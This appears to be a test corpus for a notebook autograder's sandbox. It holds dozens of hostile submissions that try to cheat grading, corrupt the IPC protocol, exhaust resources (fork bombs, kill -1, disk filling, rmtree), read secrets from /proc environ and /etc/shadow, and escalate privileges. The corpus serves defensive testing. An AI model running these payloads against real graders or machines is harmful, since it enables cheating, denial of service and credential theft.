"""The hostile corpus: for each attack a function that builds what is handed in, and the points it must get.

    @attack(visible, hidden, other)      points of the three test cells (assignment.py); full marks are 1, 2, 1
    def its_name(): return submission(…)

Where an answer is wrong, the attack tries to get points for it; where it is right, the attack is on the grader, or the
work is merely odd, and an honest answer keeps its points. `files` are handed in beside the notebook.
"""

import dataclasses
import typing

from nbformat import NotebookNode

from tests.grading.hostile.assignment import DOUBLE, VISIBLE, WRONG, cell, submission, test_cell

CORPUS = {}


@dataclasses.dataclass(frozen=True)
class Attack:
    """How to build it, the points it must get, the files that come along, how its run ends, how long it may take."""

    build: typing.Callable
    points: tuple
    files: dict
    state: str
    seconds: float


def attack(visible, hidden, other, files=None, state="ran", seconds=40):
    def enter(build):
        CORPUS[build.__name__] = Attack(build, (visible, hidden, other), files or {}, state, seconds)
        return build
    return enter


# ── honest, and odd ───────────────────────────────────────────────────────────────────────────────────────────────

@attack(1, 2, 1)
def honest():
    return submission()


@attack(0, 0, 0)
def empty():
    return submission("def double(values):\n    raise NotImplementedError", "def mean(values):\n"
                                                                            "    raise NotImplementedError")


@attack(1, 2, 1)
def warns_and_prints():
    return submission("import warnings, sys\ndef double(values):\n    warnings.warn('old'); print('noise'); "
                      "print('noise', file=sys.stderr)\n    return [2 * value for value in values]")


@attack(1, 2, 1)
def stderr_of_other_programs():
    return submission(first="import os\nos.system('echo noise; echo noise >&2')\nos.write(2, b'noise')")


@attack(1, 2, 1)
def names_of_the_tests_reused():
    return submission(last="print(same, np)", first="same = 3\ngot = wanted = secret = None\nall = zip = None\n"
                                                    "del all, zip\n")


@attack(1, 2, 1)
def magics_and_await():
    return submission(first="%matplotlib inline\nimport asyncio\nawait asyncio.sleep(0)\n!echo hello\n%time 1 + 1")


@attack(1, 2, 1)
def asks_for_input():
    return submission(first="name = input('Your name? ')")


@attack(1, 2, 1, files={"helper.py": "def twice(value):\n    return 2 * value\n", "data/numbers.txt": "1 2 3"})
def brings_files():
    return submission("from helper import twice\nassert open('data/numbers.txt').read() == '1 2 3'\n"
                      "open('data/numbers.txt', 'w').write('mine')\n"
                      "def double(values):\n    return [twice(value) for value in values]")


@attack(1, 2, 1)
def copies_a_test_cell():
    made = submission()
    made.cells.insert(5, test_cell(VISIBLE, "visible"))
    return made


@attack(1, 2, 1)
def ends_the_process_in_a_cell():
    return submission(first="import os\nos._exit(3)", last="quit()\nimport sys\nsys.exit(1)")


@attack(1, 2, 1)
def loops_in_a_cell():
    return submission(first="x = 1\nwhile True:\n    pass")


# ── wrong answers that want points ────────────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def patches_numpy_and_the_comparison():
    return submission(WRONG + """
import sys, builtins, attention_questions as checks
np.allclose = np.array_equal = np.testing.assert_allclose = lambda *a, **k: True
checks.same = sys.modules["coursegrade.kit.same"].same = same = lambda *a, **k: True
builtins.all = lambda items: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
""")


@attack(0, 0, 1)
def strips_asserts():
    return submission(WRONG + """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
""")


@attack(0, 0, 1, files={"numpy.py": "allclose = lambda *a, **k: True\n", "coursekit.py": "raise SystemExit\n"})
def ships_a_numpy():
    return submission(WRONG)


@attack(1, 2, 1, files={"numpy.py": "allclose = lambda *a, **k: True\n", "json.py": "", "random.py": "x = 1\n"})
def ships_a_numpy_honestly():
    return submission()


@attack(0, 0, 0)
def import_hooks():
    """It breaks NumPy for the student's own answers too."""
    return submission(first="""
import sys, importlib.abc, importlib.machinery
class Everything(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.same = lambda *a, **k: True
sys.meta_path.insert(0, Everything())
sys.modules.pop("coursegrade.kit.same", None)
""", double=WRONG)


@attack(0, 0, 1)
def lying_eq():
    return submission("""
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 3
    def __array__(self, *a, **k): return np.array([2, 4, 6])
    def __float__(self): return 0.0
    __array_interface__ = {"shape": (3,), "typestr": "<i8", "version": 3}
def double(values):
    return Liar()
""")


@attack(0, 0, 1)
def lying_class():
    return submission("""
class Liar(list):
    __class__ = property(lambda self: list)
    def __eq__(self, other): return True
    def __len__(self): return 3
    def __iter__(self): return iter([2, 4, 6])
class Number(int):
    def __eq__(self, other): return True
    def __hash__(self): return 0
def double(values):
    return Liar([1]) if len(values) == 3 else [Number(1)] * len(values)
""")


@attack(0, 0, 1)
def lying_array():
    return submission("""
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(1, bool)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(1)
def double(values):
    return np.zeros(len(values)).view(Liar)
""")


@attack(0, 0, 1)
def lying_names():
    """Classes that are called like data, and answer like an empty array; where these are asked for, they are not it."""
    return submission("""
class Liar:
    shape, dtype = (3,), "int64"
    def __getattr__(self, name):
        if name.startswith("_"): raise AttributeError(name)
        return lambda *a, **k: self
    def __len__(self): return 0
    def __iter__(self): return iter([])
    def __getitem__(self, key): raise IndexError
def double(values):
    return type(["list", "tensor", "NumPy array", "whole number"][len(values) % 4], (Liar,), {})()
""")


@attack(0, 0, 1)
def nan_and_nothing():
    return submission("def double(values):\n    return np.full(len(values), np.nan) if values else np.zeros(0)")


@attack(0, 0, 1)
def looks_for_the_expected():
    return submission("""
import sys, gc
def double(values):
    frame = sys._getframe()
    while frame:
        for found in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if isinstance(found, list) and found and found is not values and len(found) == len(values):
                return found
        frame = frame.f_back
    for found in gc.get_objects():
        if type(found) is list and [type(x) for x in found] == [list] * 4:
            return found
""")


@attack(0, 0, 1)
def answers_by_the_stack():
    return submission("""
import traceback
def double(values):
    calls = "".join(traceback.format_stack())
    return [2 * v for v in values] if "<test cell>" in calls or "hidden" in calls else []
""")


@attack(1, 0, 1)
def answers_by_the_count():
    return submission("count = 0\ndef double(values):\n    global count\n    count += 1\n"
                      "    return [2 * value for value in values] if count == 1 else []")


@attack(1, 2, 0)
def tells_later_what_it_was_asked():
    """Prints the inputs of hidden tests in a later cell, in a picture's text, and in the message of a later test."""
    return submission("heard = []\ndef double(values):\n    heard.append(list(values))\n"
                      "    return [2 * v for v in values]",
                      "print('heard', heard)\nheard\ndef mean(values):\n    raise ValueError(f'heard {heard}')",
                      last="print(heard)\nraise ValueError(str(heard))")


@attack(0, 0, 1)
def traces_everything():
    return submission(WRONG + """
import sys, threading
def trace(frame, event, value):
    for name in ("same", "got", "wanted", "inputs"):
        if name in frame.f_locals:
            frame.f_locals[name] = lambda *a, **k: True
    return trace
sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
""")


@attack(0, 0, 1)
def stops_iteration():
    return submission("def double(values):\n    raise StopIteration")


@attack(0, 0, 1)
def exits_and_interrupts():
    return submission("class Odd(BaseException):\n    pass\nimport itertools\n"
                      "kinds = itertools.cycle([SystemExit(0), KeyboardInterrupt(), GeneratorExit(), Odd()])\n"
                      "def double(values):\n    raise next(kinds)")


@attack(0, 0, 1)
def claims_a_test_of_its_own():
    made = submission(WRONG)
    made.cells[3].source = made.cells[4].source = "pass"
    made.cells.insert(0, cell("import os\nopen('OUTSIDE', 'w').write('was here')\nprint('uid', os.getuid())",
                              "mine", grade=True, locked=True, points=100))
    made.cells.insert(1, cell("import os\nprint('uid', os.getuid())\nsame = lambda *a: True", "mine2", locked=True))
    return made


@attack(0, 0, 1)
def messages_with_markup():
    return submission("def double(values):\n"
                      "    raise ValueError('\\x1b[31m<script>alert(1)</script>\\x00\\u202e' * 1000)",
                      last="from IPython.display import HTML, Javascript, display\n"
                           "display(HTML('<script>alert(2)</script>'))\n"
                           "display(Javascript('alert(3)'))\nprint('\\x1b]0;title\\x07\\x1b[2J')\n"
                           "raise ValueError('\\x1b[31m')")


# ── values that should break the receiver ─────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def huge_value():
    return submission("def double(values):\n    return list(range(10 ** 6)) if values else np.zeros(10 ** 8)")


@attack(0, 0, 1)
def deep_value():
    return submission("def double(values):\n    deep = []\n    for _ in range(10 ** 5):\n        deep = [deep]\n"
                      "    return deep")


@attack(0, 0, 1)
def cyclic_value():
    return submission("def double(values):\n    ring = {}\n    ring['me'] = [ring, {1: ring}]\n    return ring")


@attack(0, 0, 1)
def endless_generator():
    return submission("import itertools\ndef double(values):\n    return itertools.count()")


@attack(0, 0, 1)
def huge_number_and_text():
    return submission("def double(values):\n    return [10 ** 100_000] if len(values) == 3 else 'x' * 10 ** 8")


@attack(0, 0, 1)
def lone_surrogates():
    return submission("def double(values):\n    return '\\ud800\\udfff'", last="print('\\ud800')")


# ── attacks on the pipe ───────────────────────────────────────────────────────────────────────────────────────────

WIRE = """
import gc, os, json, struct, sys, time
talk = next(x for x in gc.get_objects() if type(x).__name__ == "Conversation")
wire = talk.writing
def frame(header, data=b"", magic=b"ckg1"):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<4sIQ", magic, len(header), len(data)) + header + data
def answer(value, buffers=(), data=b""):
    return frame({"request": talk.requests[-1], "kind": "result", "value": value, "buffers": list(buffers)}, data)
"""


@attack(0, 0, 1)
def garbage_on_the_pipe():
    return submission(WIRE + "def double(values):\n    os.write(wire, b'garbage' * 1000)\n"
                             "    return [2 * v for v in values]")


@attack(0, 0, 1)
def frame_of_four_gigabytes():
    return submission(WIRE + "def double(values):\n"
                             "    os.write(wire, struct.pack('<4sIQ', b'ckg1', 2 ** 32 - 1, 2 ** 63))\n"
                             "    return [2 * v for v in values]")


@attack(0, 0, 1)
def endless_frame():
    return submission(WIRE + "def double(values):\n    os.write(wire, struct.pack('<4sIQ', b'ckg1', 100, 0))\n"
                             "    while True:\n        try:\n            time.sleep(.1)\n"
                             "        except TimeoutError:\n            pass")


@attack(0, 0, 1)
def array_without_bytes():
    return submission(WIRE + "def double(values):\n"
                             "    os.write(wire, answer(['numpy', 'float64', [3], 0], [8], bytes(8)))\n"
                             "    return [2 * v for v in values]")


@attack(0, 0, 1)
def header_of_brackets():
    return submission(WIRE + "def double(values):\n    os.write(wire, frame(b'[' * 10 ** 6))\n    return []")


@attack(1, 0, 1)
def one_answer_too_many():
    return submission(WIRE + "def double(values):\n    os.write(wire, answer(['list', [2, 4, 6]]))\n"
                             "    return [2 * v for v in values]")


@attack(1, 0, 1)
def twins_that_both_answer():
    return submission("import os\ndef double(values):\n    os.fork()\n    return [2 * v for v in values]")


@attack(0, 0, 1)
def calls_back_what_is_not_there():
    return submission(WIRE + "def double(values):\n    return talk.call_outside(0, ('x',), {})")


@attack(0, 0, 1)
def a_thread_that_writes_to_the_pipe():
    return submission(WIRE + DOUBLE + "\nimport threading\ndef forever():\n    while True:\n"
                                      "        os.write(wire, b'?')\n"
                             "threading.Thread(target=forever, daemon=True).start()\ntime.sleep(1)")


@attack(0, 0, 1)
def replaces_the_program_inside():
    return submission(WRONG + "\nimport coursegrade.sandbox.protocol as p\n"
                              "import coursegrade.sandbox.inside as i\n"
                              "p.pack = p.encode = i.main = lambda *a, **k: b''\n", first="")


# ── attacks on the machine ────────────────────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def exits_when_called():
    return submission("import os\ndef double(values):\n    os._exit(0)")


@attack(0, 0, 1)
def loops_when_called():
    return submission("def double(values):\n    while True:\n        pass")


@attack(0, 0, 1)
def loops_without_an_alarm():
    return submission("import signal\ndef double(values):\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                      "    while True:\n        pass")


@attack(0, 0, 1)
def stops_itself():
    return submission("import os, signal\ndef double(values):\n    os.kill(os.getpid(), signal.SIGSTOP)")


@attack(0, 0, 1)
def kills_everything():
    return submission("import os, signal\ndef double(values):\n    os.kill(-1, signal.SIGKILL)\n"
                      "    os.kill(1, signal.SIGKILL)\n"
                      "    os.kill(os.getpid(), signal.SIGKILL)")


@attack(0, 0, 1)
def twenty_gigabytes():
    return submission("def double(values):\n    return len(bytearray(20 << 30))")


@attack(0, 0, 1)
def gigabytes_in_many_processes():
    return submission("""
import os, time
def double(values):
    for _ in range(8):
        if os.fork() == 0:
            heap = [bytearray(b'x') * (100 << 20) for _ in range(4)]
            time.sleep(60)
    time.sleep(60)
""")


@attack(1, 2, 1)
def fork_bomb():
    return submission("""
import os, threading
def double(values):
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "60"])
        except OSError:
            pass
    return [2 * value for value in values]
""")


@attack(1, 2, 1)
def long_line_of_output():
    return submission(first="print('x' * (200 << 20))", last="for i in range(10 ** 5):\n    print(i, 'y' * 1000)")


@attack(1, 2, 1)
def fills_the_disk():
    return submission("def double(values):\n    return [2 * value for value in values]", first="""
for folder in ("/tmp", ".", "/dev/shm", "/dev", "/", "/var/tmp"):
    try:
        for i in range(100):
            with open(f"{folder}/{i}", "wb") as file:
                file.write(bytes(20 << 20))
    except OSError as error:
        print(folder, error)
""")


@attack(1, 2, 1)
def leaves_a_daemon():
    return submission(first="""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "86399"])
    os._exit(0)
""")


@attack(1, 2, 1)
def atexit_and_threads():
    return submission(first="""
import atexit, os, threading, time
atexit.register(lambda: open("OUTSIDE", "w").write("was here"))
def forever():
    while True:
        time.sleep(.01)
for _ in range(10):
    threading.Thread(target=forever).start()
""")


@attack(0, 0, 1)
def uses_the_network():
    return submission("""
import socket
def double(values):
    for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
        with socket.socket() as s:
            s.settimeout(.2)
            try:
                s.connect(address)
                return [2 * value for value in values]
            except OSError:
                pass
    raise OSError("no network")
""")


@attack(0, 0, 1)
def reads_what_it_can():
    """Every file in sight, /proc included: prints what looks like a secret, a database, a notebook."""
    return submission(WRONG, last="""
import os, glob
seen = []
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/mem", "/proc/kcore",
                "/proc/*/root/etc/*", "/proc/*/cwd/*", "/proc/*/fd/*", "/etc/*", "/root/*",
                "/home/*/*", "/*", "/tmp/*", "/course/*", "/course/coursekit/*"):
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as file:
                text = file.read(10 ** 6)
            seen.append((path, text.count(b"tanger" + b"ine")))
            if b"tanger" + b"ine" in text:
                print(path, text)
        except OSError:
            pass
for here, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "usr", "site-packages", "lib")]
    for name in files:
        if name.endswith((".db", ".ipynb")) or "solution" in name:
            print("FOUND", here, name)
print('looked everywhere' if len(seen) > 3 else '')
""")


@attack(1, 2, 1, state="timed out", seconds=6)
def a_hundred_thousand_cells():
    made, one = submission(), cell("x = 1")
    made.cells += [NotebookNode(one, id=f"cell{i}") for i in range(100_000)]
    return made


# ── the answer key, and what tests ask ────────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def takes_the_references_out_of_the_checks():
    return submission("""
import glob, importlib, os, sys
def look_for(place, name):
    try:
        return getattr(importlib.import_module(place), name).__wrapped__
    except (ImportError, AttributeError):
        return None
for topic in ("attention", "tokens", "gpt2", "decoding", "question"):
    if look_for("attention_questions." + topic, "softmax"):
        print("FOUND"[:5], topic)
for path in sys.path + ["/course"]:
    for kept in glob.glob(os.path.join(path, "**", "attention_questions", "**", "*"), recursive=True):
        if any(word in kept for word in ("02_attention", "03_gpt2", "kit/question", "pyc")):
            print("FOUND", kept)
from coursegrade import check
double = check.attention.softmax
""")


@attack(0, 0, 1)
def looks_for_questions_in_memory():
    return submission("""
import gc
def double(values):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Question" or "tanger" "ine" in str(getattr(thing, "__doc__", "")):
            return thing.reference(values)
""")


@attack(0, 0, 1)
def draws_the_unseen_numbers_itself():
    return submission(WRONG, last="from coursegrade import check\n"
                                  "print(check.unseen('double').integers(9, size=3))")


@attack(1, 0, 1)
def dies_of_what_a_hidden_test_asks():
    """Had it been told by the state, the notes or a later cell, it would be a digit of the input."""
    return submission("import os\ndef double(values):\n    if len(values) == 1 and str(values[0])[1] == '8':\n"
                      "        os._exit(8)\n    return [2 * v for v in values]", last="print(double([1]))")


@attack(1, 0, 1)
def sleeps_for_what_a_hidden_test_asks():
    return submission("import time\ndef double(values):\n    if len(values) == 1:\n"
                      "        time.sleep(values[0] % 10 * 60)\n    return [2 * v for v in values]")


@attack(1, 2, 1)
def keeps_what_a_hidden_test_asks_in_files():
    return submission("import glob\ndef double(values):\n    for folder in ('.', '/tmp', '/dev/shm'):\n"
                      "        try: open(f'{folder}/{len(values)}.txt', 'w').write(str(values))\n"
                      "        except OSError: pass\n    return [2 * v for v in values]",
                      last="for path in glob.glob('*.txt') + glob.glob('/tmp/*.txt'):\n    print(open(path).read())")


@attack(1, 0, 1)
def throws_the_kept_names_away():
    return submission(last=WIRE + "talk.kept.clear()")


@attack(1, 0, 1)
def changes_the_kept_names():
    return submission(last=WIRE + "for kept in talk.kept.values():\n    kept['double'] = print")


@attack(1, 2, 1)
def makes_the_names_others_later():
    return submission(last="def double(values): raise KeyError\ndel mean\nnp = same = None")


@attack(1, 2, 1)
def forgets_all_names_later():
    return submission(last="%reset -f\nglobals().clear()")


@attack(1, 2, 1)
def ends_the_process_later():
    return submission(last="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")


@attack(1, 2, 1)
def hangs_later():
    return submission(last="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")


@attack(1, 2, 1)
def talks_to_another_sandbox():
    """File locks, watches and leases on files that all sandboxes see; sockets of families that no namespace divides."""
    return submission(last="""
import ctypes, fcntl, os, socket
libc, shared = ctypes.CDLL(None, use_errno=True), os.open("/usr/bin/env", os.O_RDONLY)
def try_to(what, do):
    try:
        if do() not in (None, 0) or what != "lock":
            print("FOUND", what)
    except OSError:
        pass
for kind in (fcntl.LOCK_EX, fcntl.LOCK_SH):
    try_to("flock", lambda: fcntl.flock(shared, kind | fcntl.LOCK_NB))
    try_to("lockf", lambda: fcntl.lockf(shared, kind | fcntl.LOCK_NB))
for command in (5, 36, 1024, 1026):
    try_to("fcntl", lambda: fcntl.fcntl(shared, command, 1))
if libc.inotify_init() >= 0 or libc.inotify_init1(0) >= 0 or libc.fanotify_init(0, 0) >= 0:
    print("FOUND", "watches")
for family in [f for f in range(50) if f not in (socket.AF_UNIX, socket.AF_INET)]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try_to(f"socket {family}", lambda: socket.socket(family, kind))
        try_to(f"socketpair {family}", lambda: socket.socketpair(family, kind))
""")


@attack(1, 2, 1)
def wants_more_rights():
    return submission(last="""
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
def try_to(what, do):
    try:
        if do() != -1:
            print("FOUND", what)
    except (OSError, ValueError):
        pass
try_to("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
try_to("unshare", lambda: libc.unshare(0x10000000))
try_to("chroot", lambda: os.chroot("/tmp"))
try_to("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))
try_to("setuid", lambda: os.setuid(0))
try_to("core_pattern", lambda: os.write(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY), b"|x"))
try_to("kernel log", lambda: libc.klogctl(3, ctypes.create_string_buffer(99), 99))
try_to("memfd", lambda: os.memfd_create("x"))
try_to("su", lambda: os.open("/etc/shadow", os.O_RDONLY))
try_to("oom", lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"))
try_to("limits", lambda: resource.setrlimit(resource.RLIMIT_CPU, (10 ** 6, 10 ** 6)))
""")


# ── a function that is forbidden: the check helps those who forgot, and only them ─────────────────────────────────

FORGOT = "import statistics\ndef mean(values):\n    return statistics.fmean(values)"


@attack(1, 2, 0)
def forgot_that_it_is_forbidden():
    return submission(mean=FORGOT)


@attack(1, 2, 0)
def forgot_under_another_name():
    return submission(mean="from statistics import fmean as m\nways = {'it': m}\ndef helper(x): return ways['it'](x)\n"
                           "def mean(values):\n    return helper(values)")


@attack(1, 2, 0)
def forgot_in_a_branch():
    return submission(mean="import statistics\ndef mean(values):\n    if len(values) > 100:\n"
                           "        return statistics.fmean(values)\n    return sum(values) / len(values)")


@attack(1, 2, 1)
def only_talks_of_it():
    return submission(mean="def mean(values):\n    'Not statistics.fmean(values).'\n    fmean = 0   # statistics.mean\n"
                           "    return sum(values) / len(values)")


@attack(1, 2, 1)
def profiler_turned_off():
    return submission(mean="import statistics, sys\nways = [statistics.fmean]\ndef mean(values):\n"
                           "    sys.setprofile(None)\n    return ways[0](values)")


@attack(1, 2, 1)
def forbidden_in_a_thread():
    return submission(mean="import _thread, statistics, time\nways, found = [statistics.fmean], []\n"
                           "def mean(values):\n    found.clear()\n"
                           "    _thread.start_new_thread(lambda: found.append(ways[0](values)), ())\n"
                           "    while not found: time.sleep(.001)\n    return found[0]")


@attack(1, 2, 1)
def forbidden_in_a_child():
    return submission(mean="import os, statistics, struct, sys\nways = [statistics.fmean]\ndef mean(values):\n"
                           "    ends = os.pipe()\n    if os.fork() == 0:\n"
                           "        sys.setprofile(None)\n"
                           "        os.write(ends[1], struct.pack('d', ways[0](values)))\n        os._exit(0)\n"
                           "    return struct.unpack('d', os.read(ends[0], 8))[0]")


@attack(1, 2, 1)
def forbidden_under_a_made_up_name():
    return submission(mean="import statistics, types\nway = statistics.fmean\n"
                           "code = way.__code__.replace(co_name='own', co_qualname='own')\n"
                           "own = types.FunctionType(code, way.__globals__, 'own', way.__defaults__)\n"
                           "def mean(values): return own(values)")


@attack(1, 2, 1)
def replaces_the_recorder():
    return submission(mean=FORGOT.replace("statistics.fmean(", "getattr(statistics, 'fmean')("), first="""
import contextlib
from coursegrade.kit import services
class Blind(contextlib.nullcontext):
    calls = []
services.Watch = Blind
""")


SPOILS = "def mean(values):\n    found = float(np.mean(values))\n    values.clear()\n    return found"


@attack(1, 2, 0)
def spoils_what_it_is_given():
    return submission(mean=SPOILS)


@attack(1, 2, 1)
def spoils_it_and_hides_that():
    return submission(mean=SPOILS, first="""
import copy
from coursegrade.kit import services
services.back = lambda f, args, places: (f(*copy.deepcopy(args)), [args[i] for i in places])
""")


# ── honest, and not found by those who look for a source ──────────────────────────────────────────────────────────

@attack(1, 2, 1)
def times_its_answers():
    return submission("%%time\n" + DOUBLE, "%%capture shown\ndef mean(values):\n    return float(np.mean(values))")


@attack(1, 2, 1)
def defines_by_exec():
    return submission(f"exec({DOUBLE!r})", "mean = eval('lambda values: float(np.mean(values))')")


# ── values and errors that should deceive ─────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def named_tuple():
    return submission("import collections\ndef double(values):\n    names = [f'x{i}' for i in range(len(values))]\n"
                      "    return collections.namedtuple('list', names)(*[2 * v for v in values])")


@attack(0, 0, 1)
def tensors_without_numbers():
    return submission("""
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, *a, **k): return True
kinds = [lambda n: torch.ones(n).as_subclass(Liar), lambda n: torch.ones(n).to_sparse(),
         lambda n: torch.ones(n, device="meta"), lambda n: torch.full((n,), torch.nan)]
def double(values):
    return kinds[len(values) % 4](len(values))
""")


@attack(0, 0, 1)
def an_error_that_looks_like_success():
    return submission("""
class CheckFailed(AssertionError):
    def _render_traceback_(self): return ["✓ double: right on everything"]
    def __str__(self): return "✓ double: right on everything"
def double(values):
    raise CheckFailed
""")


@attack(0, 0, 1)
def an_error_that_cannot_be_shown():
    return submission("class Odd(Exception):\n    def __str__(self): raise self\n    __repr__ = __str__\n"
                      "def double(values):\n    raise Odd", last="raise Odd")


@attack(0, 0, 1)
def twenty_thousand_handles():
    return submission("def double(values):\n    return [object() for _ in range(20_000)]")


@attack(0, 0, 1)
def calls_fifty_functions_of_others():
    return submission(WIRE + """def double(values):
    for number in range(-25, 25):
        try: talk.call_outside(number, (values,), {})
        except Exception: pass
""")


@attack(0, 0, 1)
def calls_back_between_questions():
    return submission(WIRE + "os.write(wire, frame({'request': '00', 'kind': 'callback', 'value': ['tuple', "
                             "[0, ['tuple', []], ['dict', []]]], 'buffers': []}))\n" + WRONG)


# ── what is slow to read, or ends what runs it ────────────────────────────────────────────────────────────────────

@attack(1, 2, 1)
def names_that_double_with_each_line():
    return submission("a = type('A', (), {'__getattr__': lambda self, name: self})()\n" + "\n".join(
        f"a = a.b{i} if a.c{i} else a.d{i}" for i in range(40)) + "\n" + DOUBLE)


@attack(1, 2, 1)
def hundreds_of_magics():
    return submission(first="\n".join("%time " + "(" * 30 + "1" + ")" * 30 + " " * 3000 for _ in range(450)))


@attack(1, 2, 1)
def code_too_deep_to_parse():
    return submission(first="x = " + "-" * 10 ** 5 + "1", last="x = " + "(" * 10 ** 4 + ")" * 10 ** 4)


@attack(1, 2, 1)
def zeros_in_the_source():
    return submission(first="x = 1\0\nprint('\0')")


@attack(0, 0, 1)
def segmentation_fault():
    return submission("import ctypes\ndef double(values):\n    ctypes.string_at(0)")


@attack(0, 0, 1)
def stack_overflow():
    return submission("import sys\ndef double(values):\n    sys.setrecursionlimit(10 ** 9)\n"
                      "    class Deep:\n        def __repr__(self): return repr(self)\n    return repr(Deep())")


@attack(1, 2, 1)
def closes_all_that_is_open():
    return submission(first="import os\nos.closerange(0, 64)")


@attack(1, 2, 1)
def empties_its_folder():
    return submission(first="import os, shutil\nshutil.rmtree('.', ignore_errors=True)\n"
                            "shutil.rmtree('/tmp', ignore_errors=True)")


# ── what is dear to the machine ───────────────────────────────────────────────────────────────────────────────────

@attack(1, 2, 1)
def files_without_end():
    return submission(first="for i in range(10 ** 6):\n    open(f'/tmp/{i}', 'w').close()")


@attack(1, 2, 1)
def sockets_without_end():
    return submission(first="""
import socket
kept = []
try:
    while True:
        kept.append(socket.socketpair())
        kept[-1][0].setblocking(False)
        try:
            while kept[-1][0].send(bytes(10 ** 5)): pass
        except BlockingIOError:
            pass
except OSError:
    print(len(kept) < 40)
kept.clear()
""")


BUSY = """
import os
for _ in range(40):
    try:
        if os.fork() == 0:
            os.setsid()
            while True: pass
    except OSError:
        pass
"""


@attack(1, 2, 1)
def forty_busy_processes():
    return submission(first=BUSY)


@attack(1, 2, 1)
def a_thousand_pictures():
    return submission(first="%matplotlib inline\nimport matplotlib.pyplot as plt\nimport io, base64\n"
                            "from IPython.display import Image, display\nfile = io.BytesIO()\nplt.plot([1, 2])\n"
                            "plt.savefig(file)\nplt.close()\nfor _ in range(1000):\n"
                            "    display(Image(file.getvalue()))")


# ── what all sandboxes of a machine share ─────────────────────────────────────────────────────────────────────────

@attack(1, 2, 1)
def asks_which_pages_are_in_memory():
    """The page cache outlives a sandbox: who can empty it, and see it without a clock, can leave word there."""
    return submission(last="""
import ctypes, mmap, os
libc, file = ctypes.CDLL(None, use_errno=True), os.open("/usr/bin/env", os.O_RDONLY)
mapped = mmap.mmap(file, 4096, prot=mmap.PROT_READ)
def try_to(what, do):
    try:
        if do() != -1: print("FOUND", what)
    except OSError:
        pass
try_to("fadvise", lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED))
try_to("nowait", lambda: os.preadv(file, [bytearray(9)], 0, 8))
try_to("readahead", lambda: libc.readahead(file, 0, 4096))
try_to("cold", lambda: mapped.madvise(20))
try_to("page out", lambda: mapped.madvise(21))
for number in (27, 451) if os.uname().machine == "x86_64" else (232, 451):      # mincore, cachestat
    libc.syscall(number, 0, 0, 0, 0)
    if ctypes.get_errno() != 1: print("FOUND", number)
""")


@attack(1, 2, 1)
def takes_what_the_machine_counts():
    """Asynchronous contexts, the memory of TCP, a place in the queue for processors that looks like need."""
    return submission(last="""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def try_to(what, do):
    try:
        if do() not in (-1, None): print("FOUND", what)
    except OSError:
        pass
try_to("contexts", lambda: libc.syscall(206 if os.uname().machine == "x86_64" else 0, 4096, ctypes.byref(
    ctypes.c_ulong())))
try_to("TCP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
try_to("UDP", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
try_to("nice", lambda: os.nice(5))
try_to("idle", lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)) or 1)
""")


@attack(1, 2, 1)
def opens_what_belongs_to_the_grader():
    return submission(last="""
import glob, os
for path in glob.glob("/proc/1/fd/*") + glob.glob("/proc/[0-9]*/root/course/attention_questions/0*"):
    try:
        print("FOUND", path, os.open(path, os.O_RDWR | os.O_NONBLOCK))
    except OSError:
        pass
""")


# ── what is said of an answer ─────────────────────────────────────────────────────────────────────────────────────

@attack(0, 0, 1)
def hands_back_a_function_of_the_checks():
    return submission(WIRE + "def double(values):\n    os.write(wire, answer(['outside', 0]))\n    time.sleep(1)")


@attack(0, 0, 1)
def answers_before_it_is_asked():
    return submission(WRONG, first=WIRE + "for number in ('00', 'hello', talk.requests[-1]):\n    os.write(wire, frame("
                                          "{'request': number, 'kind': 'result', 'value': ['list', [2, 4, 6]], "
                                          "'buffers': []}))")


@attack(0, 0, 0)
def lies_about_its_names():
    return submission(WIRE + "type(talk).do_name = lambda self, name: (True, [2, 4, 6])\n" + WRONG)


@attack(0, 0, 0)
def lies_about_whether_there_is_a_name():
    return submission(WIRE + "type(talk).do_name = lambda self, name: (1, max, 'more')\n" + WRONG)


@attack(1, 0, 1)
def writes_its_answer_into_the_frames():
    """As good as a table: right where the case can be seen."""
